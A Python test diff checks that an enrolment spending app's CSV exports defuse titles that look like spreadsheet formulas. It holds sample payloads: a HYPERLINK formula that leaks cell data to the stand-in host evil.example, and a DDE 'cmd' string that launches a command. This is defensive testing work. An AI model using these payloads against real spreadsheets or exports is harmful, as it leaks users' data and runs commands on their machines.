@@ -88,3 +88,35 @@ def test_empty_year_and_bad_year(db: None) -> None:
     assert page.status_code == 200
     text = Client().get(reverse("enrolment:spending-csv"), {"jaar": 1990}).content.decode()
     assert text.startswith("year,provider,providerId,offer,offerId,grants,amountCents,suppressed")
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+
+
+def test_open_data_csv_neutralises_a_title_that_starts_like_a_formula(spent: World) -> None:
+    """Issue 14, finding 4: an offer titled like a formula (admitted before the admission check
+    refused such titles) appeared unescaped in /uitgaven.csv and the API's CSV. The page CSV
+    and the API CSV now write it with a quote mark in front, and the JSON as it is."""
+    from llo.core import csvio
+
+    spent.offer.title = HOSTILE_TITLE
+    spent.offer.save(update_fields=["title"])
+    spent.provider.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    spent.provider.save(update_fields=["name"])
+    downloads = [
+        Client().get(reverse("enrolment:spending-csv"), {"jaar": "2023"}),
+        Client().get("/api/v1/spending.csv", {"year": "2023"}),
+    ]
+    for response in downloads:
+        assert response.status_code == 200
+        assert response["Content-Type"] == "text/csv; charset=utf-8"
+        text = response.content.decode()
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        mine = [r for r in rows if r["offerId"] == str(spent.offer.pk)]
+        assert len(mine) == 1
+        assert mine[0]["offer"] == "'" + HOSTILE_TITLE
+        assert mine[0]["provider"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+        assert csvio.restore(mine[0]["offer"]) == HOSTILE_TITLE
+        assert mine[0]["amountCents"] == "1080000"
+    data = Client().get(reverse("enrolment:spending-json"), {"jaar": "2023"}).json()
+    assert HOSTILE_TITLE in {r["offer"] for r in data["rows"]}
